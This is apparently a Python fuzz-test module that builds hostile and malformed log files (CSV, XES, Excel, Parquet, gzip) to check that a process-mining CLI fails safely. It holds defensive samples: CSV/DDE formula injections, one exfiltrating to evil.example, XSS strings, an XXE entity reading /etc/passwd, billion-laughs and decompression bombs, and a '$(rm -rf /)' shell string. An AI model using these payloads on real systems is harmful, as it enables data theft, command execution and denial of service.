"""A generated corpus of broken and hostile inputs, and the checks every CLI run must pass.

Nothing here is committed as data: :data:`CASES` holds recipes that write each file
into a temporary folder when the case runs (gzip and ZIP bombs are built from one
compressed member or a streamed ZIP entry, in a fraction of a second). The runner
:func:`run_case` executes every command on a case in-process with click's runner and
returns the violations of the promises below; ``tests/test_fuzz_cli.py`` runs the
cases in worker processes with a memory limit and per-case timeouts.

The promises, for every run:

- exit code 0, 1 or 2; no traceback; stderr empty or exactly one ``Error: ...`` line
  (and never an "internal error");
- stdout free of control characters other than newlines;
- kept + rejected == read for every load that succeeds;
- no person's name from the input in any output;
- CSV and Excel cells that begin with = + - @ tab or CR are escaped (numbers aside);
- no ``<script``, ``javascript:`` or ``on...=`` event-handler attribute in HTML,
  Markdown or SVG.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import random
import re
import zipfile
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from pathlib import Path
from typing import Callable

#: Resource names of the generated logs: people, each with a token no output may show.
PEOPLE = tuple(f"Aino Q{n}ZKX{n}" for n in range(1, 7))
TOKENS = tuple(p.split()[1] for p in PEOPLE)
COMMANDS: tuple[tuple[str, ...], ...] = (
    ("inspect",), ("inspect", "--json"), ("variants",), ("variants", "--json"),
    ("map", "--format", "svg"), ("map", "--format", "png"), ("map", "--format", "dot"),
    ("map", "--format", "graphml"), ("map", "--format", "json"), ("map", "--format", "bpmn"),
    ("rank", "--all", "--format", "csv"), ("rank", "--all", "--format", "json"),
    ("rank", "--all", "--format", "md"), ("rank", "--all", "--format", "html"),
    ("rank", "--all", "--format", "xlsx"),
)
#: For files whose point is how they are read (encodings, line ends, compression): one
#: run of each command; the hostile-content and failing cases go through all of COMMANDS.
READ = (("inspect", "--json"), ("variants",), ("map", "--format", "svg"), ("rank", "--all", "--format", "json"))
FORMULA = ("=", "+", "-", "@", "\t", "\r")
_UNSAFE_OUT = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]")
_LIVE = re.compile(r"<script|=\s*[\"']?\s*javascript:|<[a-z][^>]*\son[a-z]+\s*=", re.IGNORECASE)
_LIVE_MD_LINK = re.compile(r"(?<!\\)\]\(\s*javascript:", re.IGNORECASE)
_HOSTILE_NAMES = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "script": "<script>alert(1)</script>",
    "img": '<img src=x onerror="alert(1)">',
    "svg_onload": "<svg onload=alert(1)>",
    "jslink": "[click](javascript:alert(1))",
    "clear_screen": "Kirjaus \x1b[2J\x1b[H\x1b]0;pwned\x07",
    "c1_csi": "Käsittely \x9b31m red",
    "bidi": "Päätös \u202eexe.fdp",
    "controls": "Hyväksyntä \x01\x02\x7f",
    "pipe": "a | b | c",
    "entities": "&amp; &lt;b&gt; &#x3C;script&#x3E;",
    "quotes": "\"quoted\" and 'single' \\ backslash",
    "dot_escape": "label\\N\\G\\l",
    "long": "Pitkä " + "x" * 5000,
    "emoji": "Tarkastus ✅ 🤖 𝕏",
    "u2028": "line\u2028separator",
    "vtab": "vertical\x0btab",
    "cdata": "]]><!-- -->",
    "shell": "$(rm -rf /) `id`",
    "percent": "%s %n %x {0} {{7*7}}",
}


@dataclass(frozen=True)
class Case:
    """One corpus file (or a few) and the CLI runs made on it.

    ``build`` writes the log into a folder and returns its path. ``commands`` are
    appended to the log path (default: every command in every format). ``error``
    is the exact first-run stderr line expected (``"Error: ..."``) or a fragment of it
    (``contains``); ``loads`` says the log must load (inspect exits 0); ``shows``
    is text the variants output must hold (the identity of names kept).
    """

    name: str
    build: Callable[[Path], Path]
    args: tuple[str, ...] = ()
    commands: tuple[tuple[str, ...], ...] = COMMANDS
    error: str | None = None
    contains: str | None = None
    loads: bool = False
    shows: tuple[str, ...] = ()
    owned: str | None = None  # xfail reason when another engineer owns the failure
    slow: bool = False


# ----------------------------------------------------------------------------- logs
def rows(activity: str = "Tarkastus", cases: int = 30, seed: int = 0) -> list[list[str]]:
    """case, activity, ISO timestamp, resource rows over about 90 days, 3 steps a case."""
    rng = random.Random(seed)
    start = datetime(2024, 1, 8, 8, 0)
    out = []
    for c in range(cases):
        t = start + timedelta(days=3 * c, minutes=rng.randint(0, 120))
        for step in ("Kirjaus", activity, "Päätös"):
            t += timedelta(minutes=rng.randint(10, 50))
            out.append([f"D{c:03d}", step, t.strftime("%Y-%m-%d %H:%M:%S"), rng.choice(PEOPLE)])
    return out


HEADER = ["case_id", "activity", "timestamp", "resource"]


def csv_text(data: list[list[str]], header: list[str] = HEADER, delimiter: str = ",") -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(data)
    return buffer.getvalue()


def xml_attr(text: str) -> str:
    return (text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            .replace('"', "&quot;").replace("\n", "&#10;").replace("\r", "&#13;").replace("\t", "&#9;"))


def xes_text(data: list[list[str]], head: str = '<?xml version="1.0" encoding="UTF-8"?>\n',
             root: str = "log") -> str:
    parts = [head, f'<{root} xes.version="1.0" xmlns="http://www.xes-standard.org/">\n']
    by_case: dict[str, list[list[str]]] = {}
    for row in data:
        by_case.setdefault(row[0], []).append(row)
    for case, events in by_case.items():
        parts.append(f'<trace><string key="concept:name" value="{xml_attr(case)}"/>\n')
        for _, act, ts, res in events:
            parts.append(f'<event><string key="concept:name" value="{xml_attr(act)}"/>'
                         f'<string key="org:resource" value="{xml_attr(res)}"/>'
                         f'<date key="time:timestamp" value="{ts.replace(" ", "T")}+02:00"/></event>\n')
        parts.append("</trace>\n")
    parts.append(f"</{root}>\n")
    return "".join(parts)


def writes(name: str, content: Callable[[], bytes | str], encoding: str = "utf-8") -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        data = content()
        path = folder / name
        path.write_bytes(data if isinstance(data, bytes) else data.encode(encoding))
        return path
    return build


def gzip_bomb(name: str, head: bytes, repeat: bytes, tail: bytes = b"", members: int = 300) -> Callable[[Path], Path]:
    """Concatenated gzip members: one compressed 64 MiB block written ``members`` times."""
    def build(folder: Path) -> Path:
        block = gzip.compress(repeat * ((64 << 20) // len(repeat)), 9, mtime=0)
        path = folder / name
        with open(path, "wb") as fh:
            fh.write(gzip.compress(head, mtime=0))
            for _ in range(members):
                fh.write(block)
            fh.write(gzip.compress(tail, mtime=0))
        return path
    return build


def xlsx_bomb(folder: Path) -> Path:
    """A workbook whose worksheet XML inflates 1,000:1 (streamed, never whole in memory)."""
    from openpyxl import Workbook

    path = folder / "bomb.xlsx"
    book = Workbook()
    book.active.append(HEADER)
    book.save(path)
    row = b'<row><c t="inlineStr"><is><t>D1</t></is></c><c t="inlineStr"><is><t>A</t></is></c></row>'
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as z, \
            z.open("xl/worksheets/sheet2.xml", "w", force_zip64=True) as fh:
        block = row * ((1 << 20) // len(row))
        for _ in range(300):
            fh.write(block)
    return path


def xlsx_of(data: list[list[str]], header: list[str] = HEADER) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        from openpyxl import Workbook

        path = folder / "log.xlsx"
        book = Workbook()
        sheet = book.active
        sheet.append(header)
        for row in data:
            sheet.append(row)
        book.save(path)
        return path
    return build


def parquet_of(columns: dict[str, list]) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        import pandas as pd

        path = folder / "log.parquet"
        pd.DataFrame(columns).to_parquet(path)
        return path
    return build


def _hostile_rows(name: str) -> list[list[str]]:
    return rows(_HOSTILE_NAMES[name])


def _deep_xes() -> str:
    return ('<?xml version="1.0"?>\n<log><trace>' + '<list key="x">' * 200_000
            + "</list>" * 200_000 + "</trace></log>\n")


def _wide_csv(columns: int) -> str:
    header = ["case_id", "activity", "timestamp", "resource"] + [f"attr{i}" for i in range(columns - 4)]
    data = [r + [str(i % 7) for i in range(columns - 4)] for r in rows(cases=4)]
    return csv_text(data, header)


def _dtd(after: str = "") -> str:
    return ('<?xml version="1.0"?>\n' + after + '<!DOCTYPE log [<!ENTITY a "EXPANDED-ENTITY">]>\n'
            + xes_text(rows("&a;"), head="").replace("&amp;a;", "&a;"))


def _billion_laughs() -> str:
    entities = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    return f'<?xml version="1.0"?>\n<!DOCTYPE log [{entities}]>\n<log>&l9;</log>\n'


def _config(text: str | bytes, name: str = "c.yaml") -> Callable[[Path], Path]:
    """A good log plus a config file beside it (the path is given as --config)."""
    def build(folder: Path) -> Path:
        (folder / name).write_bytes(text if isinstance(text, bytes) else text.encode())
        return writes("log.csv", lambda: csv_text(rows()))(folder)
    return build


def _times(text: str | bytes, name: str = "times.csv") -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        path = folder / name
        if text == "<dir>":
            path.mkdir()
        else:
            path.write_bytes(text if isinstance(text, bytes) else text.encode())
        return writes("log.csv", lambda: csv_text(rows()))(folder)
    return build


RANK = (("rank",),)
RANK_HTML = (("rank", "--format", "html"),)
MAPS = (("map", "--format", "svg"),)


def _hostile_cases() -> list[Case]:
    cases: list[Case] = []
    # Hostile activity names, in CSV and XES (and Excel and Parquet for a few).
    for key, name in _HOSTILE_NAMES.items():
        shown = () if any(c in name for c in "\x1b\x9b\x01\u202e\u2028\x0b\t") else (name,)
        cases.append(Case(f"name-{key}-csv", writes("log.csv", lambda k=key: csv_text(_hostile_rows(k))),
                          loads=True, shows=shown))
        if key in ("hyperlink", "dde", "script", "img", "clear_screen", "bidi", "entities", "cdata", "minus"):
            cases.append(Case(f"name-{key}-xes", writes("log.xes", lambda k=key: xes_text(_hostile_rows(k))),
                              loads=key != "clear_screen"))
    for key in ("hyperlink", "script", "bidi"):
        data = _hostile_rows(key)
        cases.append(Case(f"name-{key}-xlsx", xlsx_of(data), loads=True))
        cases.append(Case(f"name-{key}-parquet", parquet_of(dict(zip(HEADER, map(list, zip(*data))))), loads=True))
    # Hostile attribute (column) names and values.
    for key in ("dde", "script", "clear_screen", "bidi"):
        header = HEADER + [_HOSTILE_NAMES[key]]
        data = [r + [_HOSTILE_NAMES[key]] for r in rows()]
        cases.append(Case(f"attribute-{key}", writes("log.csv", lambda h=header, d=data: csv_text(d, h)), loads=True))
    cases.append(Case("resource-formula", writes("log.csv", lambda: csv_text(
        [r[:3] + ["=cmd|' /C calc'!A0 " + r[3]] for r in rows()])), loads=True))
    return cases


def _encoding_cases() -> list[Case]:
    cases: list[Case] = []
    # Encodings.
    fi_text = csv_text(rows("Käsittely"), delimiter=";")
    cases += [
        Case("bom-then-cp1252", writes("log.csv", lambda: b"\xef\xbb\xbf" + fi_text.encode("cp1252")),
             loads=True, commands=READ, shows=("Käsittely",)),
        Case("cp1252", writes("log.csv", lambda: fi_text.encode("cp1252")), loads=True, commands=READ, shows=("Käsittely",)),
        Case("cp1252-undefined-bytes", writes("log.csv", lambda: fi_text.encode("cp1252").replace(b"\xe4", b"\x81")),
             loads=True, commands=READ),
        Case("utf16-bom", writes("log.csv", lambda: fi_text.encode("utf-16")), loads=True, commands=READ, shows=("Käsittely",)),
        Case("utf16-le-no-bom", writes("log.csv", lambda: fi_text.encode("utf-16-le")), loads=True, commands=READ,
             shows=("Käsittely",)),
        Case("utf32-bom", writes("log.csv", lambda: fi_text.encode("utf-32")), loads=True, commands=READ, shows=("Käsittely",)),
        Case("latin1-in-utf8-xes", writes("log.xes", lambda: xes_text(rows("Käsittely")).encode("latin-1")),
             loads=True, commands=READ),
        Case("nul-bytes-csv", writes("log.csv", lambda: fi_text.replace("Päätös", "Pää\x00tös"))),
        Case("binary-as-csv", writes("log.csv", lambda: bytes(random.Random(1).randrange(256) for _ in range(5000)))),
        Case("png-as-csv", writes("log.csv", lambda: b"\x89PNG\r\n\x1a\n" + b"\x00" * 100)),
        Case("bad-encoding-option", writes("log.csv", lambda: fi_text), args=("--encoding", "no-such-codec"),
             contains="cannot decode with --encoding no-such-codec"),
        Case("utf8-as-ascii-option", writes("log.csv", lambda: fi_text), args=("--encoding", "ascii"),
             contains="cannot decode with --encoding ascii"),
    ]
    return cases


def _csv_cases() -> list[Case]:
    cases: list[Case] = []
    # CSV structure.
    good = csv_text(rows())
    cases += [
        Case("empty-csv", writes("log.csv", lambda: ""), error="Error: log.csv: the file is empty; export the log again"),
        Case("blank-csv", writes("log.csv", lambda: " \n\n \t\n"), contains="the file is empty"),
        Case("header-only", writes("log.csv", lambda: "case_id,activity,timestamp\n"), contains="no rows"),
        Case("one-column", writes("log.csv", lambda: "case_id\nc1\nc2\n"), contains="cannot tell the delimiter"),
        Case("ragged-rows", writes("log.csv", lambda: good + "D999,Kirjaus\nD999,A,B,C,D,E,F\n"), loads=True, commands=READ),
        Case("unterminated-quote", writes("log.csv", lambda: good + 'D999,"Kirjaus,2024-01-01 10:00:00,x\n')),
        Case("huge-field", writes("log.csv", lambda: csv_text(
            [r + ["y" * 10_000_000 if i == 0 else "z"] for i, r in enumerate(rows())], HEADER + ["note"])),
            loads=True, commands=READ),
        Case("vertical-tab-field", writes("log.csv", lambda: csv_text(
            [r + ["a\x0bb"] for r in rows()], HEADER + ["note"])), loads=True),
        Case("u2028-field", writes("log.csv", lambda: csv_text(
            [r + ["a\u2028b\u2029c\x1c\x1d\x1e\x85"] for r in rows()], HEADER + ["note"])), loads=True),
        Case("crlf", writes("log.csv", lambda: good.replace("\n", "\r\n")), loads=True, commands=READ),
        Case("cr-only", writes("log.csv", lambda: good.replace("\n", "\r")), loads=True, commands=READ),
        Case("quoted-newlines", writes("log.csv", lambda: csv_text(
            [r + ["line one\nline two"] for r in rows()], HEADER + ["note"])), loads=True, commands=READ),
        Case("duplicate-columns", writes("log.csv", lambda: csv_text([r + [r[1]] for r in rows()], HEADER + ["activity"]))),
        Case("blank-header-names", writes("log.csv", lambda: csv_text([r + ["", "x"] for r in rows()], HEADER + ["", " "]))),
        Case("semicolon-decimal", writes("log.csv", lambda: csv_text([r + ["1 234,5"] for r in rows()],
                                                                      HEADER + ["summa"], ";")), loads=True, commands=READ),
        Case("all-timestamps-bad", writes("log.csv", lambda: csv_text([r[:2] + ["not a time", r[3]] for r in rows()])),
             contains="rows were rejected"),
        Case("missing-case-ids", writes("log.csv", lambda: csv_text(
            [([""] if i % 2 else r[:1]) + r[1:] for i, r in enumerate(rows())])), loads=True, commands=READ),
        Case("wide-1000", writes("log.csv", lambda: _wide_csv(1000)), commands=(("inspect", "--json"), ("variants",)),
             loads=True),
        Case("wide-20000", writes("log.csv", lambda: _wide_csv(20_000)),
             contains="has 20,000 columns; rpa_scout reads at most 1,000"),
        Case("csv-extension-xes-content", writes("log.csv", lambda: xes_text(rows()))),
        Case("xes-extension-csv-content", writes("log.xes", lambda: good), contains="not an XML file"),
        Case("unknown-extension", writes("log.json", lambda: "{}"), contains="unknown log format"),
        Case("missing-file", lambda folder: folder / "nope.csv", contains="no such file"),
        Case("folder-as-log", lambda folder: (folder / "d.csv").mkdir() or folder / "d.csv", contains="is a folder"),
    ]
    return cases


def _size_cases() -> list[Case]:
    cases: list[Case] = []
    good = csv_text(rows())
    # Compression and size.
    cases += [
        Case("csv-gz", writes("log.csv.gz", lambda: gzip.compress(good.encode())), loads=True, commands=READ),
        Case("csv-gz-concatenated", writes("log.csv.gz", lambda: gzip.compress(good.encode()[:200])
                                            + gzip.compress(good.encode()[200:])), loads=True, commands=READ),
        Case("csv-gz-truncated", writes("log.csv.gz", lambda: gzip.compress(good.encode())[:-30]),
             contains="the gzip file is truncated"),
        Case("csv-gz-corrupt", writes("log.csv.gz", lambda: gzip.compress(good.encode())[:20] + b"\xff" * 200),
             contains="gzip"),
        Case("csv-gz-not-gzip", writes("log.csv.gz", lambda: good), loads=True, commands=READ),
        Case("csv-gz-bomb", gzip_bomb("bomb.csv.gz", good.encode(), b"D1,Kirjaus,2024-01-01 10:00:00,x\n"),
             contains="refused as a decompression bomb", slow=True),
        Case("xes-gz-bomb", gzip_bomb("bomb.xes.gz", xes_text(rows()).split("</log>")[0].encode() + b"<trace>",
                                      b'<event><string key="concept:name" value="A"/></event>\n',
                                      b"</trace></log>\n"),
             contains="refused as a decompression bomb", slow=True),
        Case("xlsx-bomb", xlsx_bomb, contains="refused as a decompression bomb", slow=True),
        Case("max-bytes", writes("log.csv", lambda: good), args=("--max-bytes", "1K"),
             error="Error: log.csv: holds more than 1.0 KiB of data (uncompressed), the --max-bytes "
                   "limit of this run; if the log is genuine, raise --max-bytes"),
        Case("max-bytes-gz", writes("log.csv.gz", lambda: gzip.compress(good.encode())), args=("--max-bytes", "2K"),
             contains="holds more than 2.0 KiB"),
        Case("max-bytes-bad", writes("log.csv", lambda: good), args=("--max-bytes", "lots"),
             contains="'lots' is not a size"),
    ]
    return cases


def _xes_cases() -> list[Case]:
    cases: list[Case] = []
    # XES.
    xes = xes_text(rows())
    cases += [
        Case("xes-ok", writes("log.xes", lambda: xes), loads=True),
        Case("xes-gz-ok", writes("log.xes.gz", lambda: gzip.compress(xes.encode())), loads=True, commands=READ),
        Case("xes-bom", writes("log.xes", lambda: "\ufeff" + xes), loads=True, commands=READ),
        Case("xes-prefixed-root", writes("log.xes", lambda: xes_text(rows(), root="xes:log").replace(
            'xmlns="http', 'xmlns:xes="http'))),
        Case("dtd-at-start", writes("log.xes", lambda: _dtd()), contains="declares a DTD or entities"),
        Case("dtd-after-long-comment", writes("log.xes", lambda: _dtd("<!--" + "x" * 200_000 + "-->\n")),
             contains="declares a DTD or entities"),
        Case("dtd-after-pi", writes("log.xes", lambda: _dtd('<?xml-stylesheet href="a"?>\n' * 3000)),
             contains="declares a DTD or entities"),
        Case("dtd-prefixed-root", writes("log.xes", lambda: '<?xml version="1.0"?>\n<!DOCTYPE x:log [<!ENTITY a "EXPANDED-ENTITY">]>\n'
                                         '<x:log xmlns:x="http://www.xes-standard.org/"><x:trace><x:string key="concept:name" value="&a;"/>'
                                         '<x:event><x:string key="concept:name" value="&a;"/><x:date key="time:timestamp" value="2024-01-01T10:00:00"/></x:event>'
                                         '</x:trace></x:log>\n'), contains="declares a DTD or entities"),
        Case("xxe-file", writes("log.xes", lambda: '<?xml version="1.0"?>\n<!DOCTYPE log [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
                                + xes.split("\n", 1)[1].replace("Kirjaus", "&x;")), contains="declares a DTD"),
        Case("billion-laughs", writes("log.xes", _billion_laughs), contains="declares a DTD"),
        Case("dtd-in-comment-only", writes("log.xes", lambda: xes.replace("<log", "<!-- <!DOCTYPE x> -->\n<log", 1)),
             loads=True, commands=READ),
        Case("deep-nesting", writes("log.xes", _deep_xes), contains="elements nest more than 100 deep", slow=True),
        Case("xes-truncated", writes("log.xes", lambda: xes[: len(xes) // 2]), contains="truncated"),
        Case("xes-gz-truncated", writes("log.xes.gz", lambda: gzip.compress(xes.encode())[:-40]), contains="truncated"),
        Case("xes-not-log-root", writes("log.xes", lambda: '<?xml version="1.0"?>\n<html><body/></html>\n'),
             contains="the root element is <html>, not <log>"),
        Case("xes-no-root", writes("log.xes", lambda: '<?xml version="1.0"?>\n<!-- only a comment -->\n'),
             contains="no root element"),
        Case("xes-text", writes("log.xes", lambda: "hello"), contains="not an XML file"),
        Case("xes-empty-log", writes("log.xes", lambda: '<?xml version="1.0"?>\n<log xes.version="1.0"></log>\n'),
             contains="no events"),
        Case("xes-unclosed-comment", writes("log.xes", lambda: '<?xml version="1.0"?>\n<!-- ' + "x" * 100)),
        Case("xes-bad-dates", writes("log.xes", lambda: xes.replace("2024-", "20x4-"))),
        Case("xes-undefined-entity", writes("log.xes", lambda: xes.replace("Kirjaus", "&nope;"))),
        Case("xes-malformed-tags", writes("log.xes", lambda: xes.replace("</event>", "</evnt>", 3))),
    ]
    return cases


def _table_cases() -> list[Case]:
    cases: list[Case] = []
    good = csv_text(rows())
    # Excel and Parquet.
    cases += [
        Case("xlsx-ok", xlsx_of(rows()), loads=True, commands=READ),
        Case("xlsx-not-zip", writes("log.xlsx", lambda: good), contains="not a readable Excel workbook"),
        Case("xlsx-missing-sheet", xlsx_of(rows()), args=("--sheet", "Nope"), contains="no sheet 'Nope'; the sheets are 'Sheet'; name one with --sheet"),
        Case("xlsx-formula-cells", xlsx_of([r[:3] + ["=1+1"] for r in rows()]), loads=True),
        Case("parquet-corrupt", writes("log.parquet", lambda: b"PAR1" + b"\x00" * 100),
             contains="); write it again, or check that it is the Parquet export"),
        Case("parquet-wide", parquet_of({f"c{i}": [1] for i in range(1500)}), contains="has 1,500 columns"),
    ]
    return cases


def _option_cases() -> list[Case]:
    cases: list[Case] = []
    good = csv_text(rows())
    # Options and outputs.
    cases += [
        Case("delimiter-double", writes("log.csv", lambda: good), args=("--delimiter", ";;"),
             error="Error: --delimiter must be one character other than a quote or a line break, got ';;'"),
        Case("delimiter-quote", writes("log.csv", lambda: good), args=("--delimiter", '"'),
             contains="--delimiter must be one character"),
        Case("same-case-activity", writes("log.csv", lambda: good), args=("--case", "activity", "--activity", "activity"),
             error="Error: log.csv: column 'activity' is mapped both as --case and --activity; each role "
                   "needs a column of its own"),
        Case("unknown-column", writes("log.csv", lambda: good), args=("--case", "nope"), contains="'nope' not found"),
        Case("bad-timezone", writes("log.csv", lambda: good), args=("--timezone", "Mars/Base"),
             contains="--timezone: unknown time zone 'Mars/Base'; write a zone name"),
        Case("bad-timestamp-format", writes("log.csv", lambda: good), args=("--timestamp-format", "%Q %")),
        Case("year-9999", writes("log.csv", lambda: good.replace("2024-", "9999-")),
             contains="timestamp year outside 1678-2261"),
        Case("year-1600", writes("log.csv", lambda: good.replace("2024-", "1600-")),
             contains="timestamp year outside 1678-2261"),
    ]
    configs = {
        "manual-string": ("manual: just a string\n", "manual must be a mapping"),
        "manual-list-of-lists": ("manual: {system_resources: [[a]]}\n", "must be a list of names"),
        "bad-regex": ("manual: {system_resources: ['(unclosed']}\n", "is not a valid regular expression"),
        "text-number": ("economics: {hourly_cost: lots}\n", "economics.hourly_cost must be a number"),
        "nan-weight": ("rank: {weights: {rule_basedness: .nan}}\n", "must be a finite number"),
        "inf-threshold": ("rank: {fit_threshold: .inf}\n", "must be a finite number"),
        "weights-list": ("rank: {weights: [1, 2]}\n", "weights must be a mapping"),
        "unknown-rank-key": ("rank: {colour: red}\n", "unknown key(s) colour"),
        "rounds-huge": ("rank: {bootstrap_rounds: 1000000000}\n", "bootstrap_rounds must be a whole number"),
        "top-list": ("- a\n- b\n", "expected sections"),
        "yaml-alias-bomb": ("a: &a [x, x]\nb: &b [*a, *a]\nrank: *b\n", "unknown section"),
    }
    for key, (body, message) in configs.items():
        cases.append(Case(f"config-{key}", _config(body), args=("--config", "{folder}/c.yaml"),
                          commands=RANK, contains=message))
    cases += [
        Case("config-cp1252", _config("manual: {manual_activities: [Käsittely]}\n".encode("cp1252")),
             args=("--config", "{folder}/c.yaml"), commands=RANK, contains="not UTF-8 text"),
        Case("config-folder", _config("", name="other.yaml"), args=("--config", "{folder}"), commands=RANK,
             contains="is a folder"),
    ]
    times = {
        "one-column": ("activity\nKirjaus\n", "row 1 needs an activity and minutes"),
        "nan": ("activity;minutes\nKirjaus;nan\n", "must be a finite number"),
        "inf": ("activity;minutes\nKirjaus;inf\n", "must be a finite number"),
        "huge": ("activity;minutes\nKirjaus;1e308\n", "more than a day"),
        "negative": ("activity;minutes\nKirjaus;-5\n", "must not be negative"),
        "text": ("activity;minutes\nKirjaus;five\n", "is not a number"),
        "cp1252": ("activity;minutes\nKäsittely;5\n".encode("cp1252"), None),   # as Excel saves it: read
        "folder": ("<dir>", "is a folder"),
    }
    for key, (body, message) in times.items():
        cases.append(Case(f"times-{key}", _times(body), args=("--standard-times", "{folder}/times.csv"),
                          commands=RANK, contains=message, error=None if message else ""))
    cases += [
        Case("out-under-a-file", writes("log.csv", lambda: good), commands=(
            ("map", "--out", "{folder}/log.csv/map.svg"), ("rank", "--out", "{folder}/log.csv/r.csv")),
             contains="is a file, not a folder"),
        Case("out-is-a-folder", writes("log.csv", lambda: good), commands=(
            ("map", "--out", "{folder}"), ("rank", "--format", "xlsx", "--out", "{folder}")), contains="is a folder"),
        Case("out-missing-folder", writes("log.csv", lambda: good), commands=(
            ("map", "--format", "bpmn", "--out", "{folder}/no/m.bpmn"),), contains="does not exist"),
        Case("out-unknown-suffix", writes("log.csv", lambda: good), commands=(("rank", "--out", "{folder}/r.pdf"),),
             contains="cannot tell the format of r.pdf"),
        Case("hourly-cost-inf", writes("log.csv", lambda: good), commands=(("rank", "--hourly-cost", "inf"),)),
        Case("bad-usage", writes("log.csv", lambda: good), commands=(("map", "--paths", "150"), ("rank", "--top", "0"),
                                                                  ("inspect", "--no-such-option"))),
    ]
    return cases


def _cases() -> list[Case]:
    return [case for group in (_hostile_cases, _encoding_cases, _csv_cases, _size_cases, _xes_cases, _table_cases, _option_cases) for case in group()]


CASES: dict[str, Case] = {case.name: case for case in _cases()}


# --------------------------------------------------------------------------- runner
@dataclass
class Outcome:
    """What the runs of one case did: violations of the promises, and facts to check."""

    case: str
    violations: list[str] = field(default_factory=list)
    first_error: str = ""
    loaded: bool = False
    shown: str = ""
    runs: int = 0


def _suffix(command: tuple[str, ...]) -> str:
    if "--format" in command:
        return command[command.index("--format") + 1]
    return ""


def run_case(name: str, folder: Path) -> Outcome:
    """Build case ``name`` in ``folder``, run its commands and check every promise."""
    from click.testing import CliRunner

    from rpa_scout.cli import main

    case = CASES[name]
    log = case.build(folder)
    outcome = Outcome(name)
    runner = CliRunner()
    for i, command in enumerate(case.commands):
        fmt = _suffix(command)
        out = folder / f"out{i}.{fmt}" if fmt and "--out" not in command else None
        words = [w.replace("{folder}", str(folder)) for w in command]
        args = [words[0], str(log), *words[1:], *[a.replace("{folder}", str(folder)) for a in case.args]]
        if words[0] == "rank":
            args += ["--key", "fuzz"]
        if out is not None:
            args += ["--out", str(out)]
        result = runner.invoke(main, args, catch_exceptions=True)
        outcome.runs += 1
        where = " ".join(words)
        problems = _check_run(result, where)
        if result.exit_code == 0 and out is not None and out.exists():
            problems += _check_file(out, fmt, where)
        if command == ("inspect", "--json") and result.exit_code == 0:
            outcome.loaded = True
            problems += _check_accounting(result.stdout, where)
        if command[0] == "variants" and result.exit_code == 0:
            outcome.shown += result.stdout
        if i == 0:
            outcome.first_error = result.stderr.strip()
        outcome.violations += problems
    for path in folder.iterdir():
        if path.name.startswith(".partial-"):
            outcome.violations.append(f"a partial file was left behind: {path.name}")
    return outcome


def _check_run(result, where: str) -> list[str]:
    problems = []
    if result.exit_code not in (0, 1, 2):
        problems.append(f"{where}: exit code {result.exit_code}")
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        problems.append(f"{where}: exception {type(result.exception).__name__}: {result.exception}")
    err = result.stderr
    if "Traceback" in err or "Traceback" in result.stdout:
        problems.append(f"{where}: traceback")
    lines = err.splitlines()
    if err and (len(lines) != 1 or not lines[0].startswith("Error: ")):
        problems.append(f"{where}: stderr is not one Error line: {err[:300]!r}")
    if "internal error" in err:
        problems.append(f"{where}: {err.strip()[:300]}")
    if result.exit_code != 0 and not err:
        problems.append(f"{where}: failed without an Error line")
    if _UNSAFE_OUT.search(result.stdout + err):
        problems.append(f"{where}: raw control characters on the terminal")
    problems += _leaks(result.stdout + err, where)
    return problems


def _leaks(text: str, where: str) -> list[str]:
    return [f"{where}: a person's name leaked ({t})" for t in TOKENS if t in text]


def _check_accounting(stdout: str, where: str) -> list[str]:
    report = json.loads(stdout)["load_report"]
    if report["rows_kept"] + report["rows_rejected"] != report["rows_read"]:
        return [f"{where}: kept {report['rows_kept']} + rejected {report['rows_rejected']} "
                f"!= read {report['rows_read']}"]
    return []


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _check_file(path: Path, fmt: str, where: str) -> list[str]:
    problems: list[str] = []
    if fmt == "png":
        return [] if path.read_bytes().startswith(b"\x89PNG") else [f"{where}: not a PNG"]
    if fmt == "xlsx":
        from openpyxl import load_workbook

        book = load_workbook(path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        problems.append(f"{where}: live formula {cell.value!r} in {cell.coordinate}")
                    elif isinstance(cell.value, str) and cell.value.startswith(FORMULA):
                        problems.append(f"{where}: cell {cell.coordinate} begins with {cell.value[:1]!r}")
                    if isinstance(cell.value, str):
                        problems += _leaks(cell.value, where)
        return problems
    text = path.read_text(encoding="utf-8")
    problems += _leaks(text, where)
    if fmt == "csv":
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                if cell.startswith(FORMULA) and not _is_number(cell):
                    problems.append(f"{where}: CSV cell begins with {cell[:1]!r}: {cell[:40]!r}")
    if fmt in ("html", "md", "svg") and _LIVE.search(text):
        problems.append(f"{where}: live markup {_LIVE.search(text).group()!r}")
    if fmt == "md" and _LIVE_MD_LINK.search(text):
        problems.append(f"{where}: live Markdown link {_LIVE_MD_LINK.search(text).group()!r}")
    if fmt == "json":
        json.loads(text)
    return problems
